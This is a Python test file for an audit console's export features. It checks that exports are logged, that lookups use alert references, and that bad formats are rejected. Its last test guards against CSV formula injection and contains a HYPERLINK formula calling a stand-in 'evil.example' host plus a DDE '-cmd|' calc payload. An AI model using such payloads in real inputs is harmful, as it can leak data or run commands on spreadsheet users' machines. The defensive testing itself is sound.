"""The auditors' pages: an export from the console is audited like one from the CLI."""

from __future__ import annotations

import json

from sqlalchemy import text

from tests.web.conftest import sign_in


def test_a_console_export_is_recorded_in_the_trail(client, people, db, factories):
    auditor = people("auditora", "auditor")
    alert = factories.AlertFactory()
    sign_in(client, auditor, db)
    r = client.get(f"/audit/export?format=json&alert={alert.id}")
    assert r.status_code == 200 and json.loads(r.get_data(as_text=True))["format"] == "sirena-audit-export-v1"
    row = db.execute(text("SELECT actor_name, origin_interface, subject_id, payload FROM audit.events "
                          "WHERE action = 'audit.exported'")).one()
    assert row.actor_name == "auditora" and row.origin_interface == "console" and row.subject_id == str(alert.id)
    assert row.payload["format"] == "json" and row.payload["scope"]["alert_ids"] == [alert.id]
    assert row.payload["output"] == "console download"


def test_the_trail_is_searched_and_exported_by_the_reference_shown_everywhere(client, people, db, factories):
    auditor = people("auditora-ref", "auditor")
    alert, other = factories.AlertFactory(), factories.AlertFactory()
    alert.reference = f"A-2026-{alert.id:06d}"  # as lifecycle.compose names it
    db.flush()
    from audit.trail import append
    from tests.factories import actor_for

    for a in (alert, other):
        append(db, actor=actor_for(auditor.operator), action="alert.composed", subject_type="alert", subject_id=a.id)
    sign_in(client, auditor, db)
    page = client.get(f"/audit/timeline?alert={alert.reference}")
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    assert f"· {alert.reference}</h1>" in body
    assert f"<code>alert</code> {alert.id}</td>" in body and f"<code>alert</code> {other.id}</td>" not in body
    export = client.get(f"/audit/export?format=json&alert={alert.reference}")
    assert export.status_code == 200
    assert json.loads(export.get_data(as_text=True))["scope"]["alert_ids"] == [alert.id]
    assert client.get("/audit/timeline?alert=incendio").status_code == 422
    assert client.get("/audit/timeline?alert=A-2026-999999").status_code == 404


def test_an_unknown_export_format_exports_and_records_nothing(client, people, db):
    sign_in(client, people("auditor2", "auditor"), db)
    assert client.get("/audit/export?format=xml").status_code == 422
    assert db.execute(text("SELECT count(*) FROM audit.events WHERE action = 'audit.exported'")).scalar_one() == 0


def test_a_user_name_typed_as_a_formula_is_text_in_the_console_csv(committed_db, redis_db):
    """Issue 16: `=HYPERLINK(...)` typed at sign-in became an actor_name cell a spreadsheet would run.

    A committed database: the console seals the trail before exporting, and sealing sees only
    committed events."""
    import csv
    import io

    from alerting.base.db import bind_sessions, engine, transaction, utcnow
    from alerting.directory.accounts import create_operator, decrypt_totp
    from alerting.interfaces.web.app import create_app
    from audit.actor import Actor
    from tests.web.conftest import PASSWORD, Person, csrf_of

    bind_sessions(engine(), join_transaction_mode="conditional_savepoint")
    key = committed_db.secret_key()
    with transaction() as db:
        new = create_operator(db, "auditora3", ["auditor"], key, Actor.system("test"), password=PASSWORD)
        new.operator.totp_enrolled_at = utcnow()
        auditor = Person(new.operator, PASSWORD, decrypt_totp(new.operator.totp_secret_enc, key))
    app = create_app(committed_db, configure_services=False)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    stranger = app.test_client()
    token = csrf_of(stranger, "/login")
    stranger.post("/login", data={"csrf_token": token, "username": formula, "password": "whatever it is"},
                  headers={"User-Agent": "-cmd|' /C calc'!A0"})
    client = app.test_client()
    sign_in(client, auditor)
    r = client.get("/audit/export?format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True), newline="")))
    refused = [row for row in rows if row["actor_name"].endswith(formula)]
    assert refused and refused[0]["actor_name"] == "'" + formula
    assert refused[0]["origin_user_agent"] == "'-cmd|' /C calc'!A0"
    assert not [c for row in rows for c in row.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
